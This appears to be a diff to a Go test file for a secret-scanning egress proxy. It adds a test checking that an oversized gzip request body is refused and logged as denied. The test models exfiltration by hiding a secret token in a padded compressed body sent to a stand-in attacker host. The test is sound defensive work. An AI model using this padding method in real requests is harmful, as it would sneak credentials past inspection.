@@ -1237,6 +1237,33 @@ func TestSecretInGzipBody(t *testing.T) {
 			t.Errorf("%s%s: %d %q, want %d", tt.host, tt.path, resp.StatusCode, b, tt.status)
 		}
 	}
+	// Past the size inflated for the check, the value would ride on
+	// compressed and unseen: the body is refused instead, with a length
+	// or chunked.
+	noise := make([]byte, maxSecretBody+1<<20) // incompressible
+	for i := range noise {
+		noise[i] = byte(rand.IntN(256))
+	}
+	big := zip(strings.Repeat("x", 64) + valTok + string(noise))
+	for _, chunked := range []bool{false, true} {
+		var body io.Reader = bytes.NewReader(big)
+		if chunked {
+			body = io.MultiReader(bytes.NewReader(big)) // no length: sent chunked
+		}
+		req, _ := http.NewRequest("POST", "https://evil.test/gz-large", body)
+		req.Header.Set("Content-Encoding", "gzip")
+		// The proxy answers before the client has sent it all, so the
+		// client may see the connection reset instead of the 413.
+		if resp, err := f.c.Do(req); err == nil {
+			resp.Body.Close()
+			if resp.StatusCode != http.StatusRequestEntityTooLarge {
+				t.Errorf("a %d MiB gzip body (chunked %v): %d, want 413", len(big)>>20, chunked, resp.StatusCode)
+			}
+		}
+	}
+	if got := f.e.entry(t, func(x Entry) bool { return x.Path == "/gz-large" }); got.Verdict != "deny" || !strings.Contains(got.Reason, "gzip request body larger than") {
+		t.Errorf("the large gzip body's log entry: %+v", got)
+	}
 	f.evil.mu.Lock()
 	defer f.evil.mu.Unlock()
 	if f.evil.hits.Load() != 1 || f.evil.last.URL.Path != "/gz-clean" || f.evil.body != string(zip(strings.Repeat(`{"d":"nothing to see"}`, 100))) {
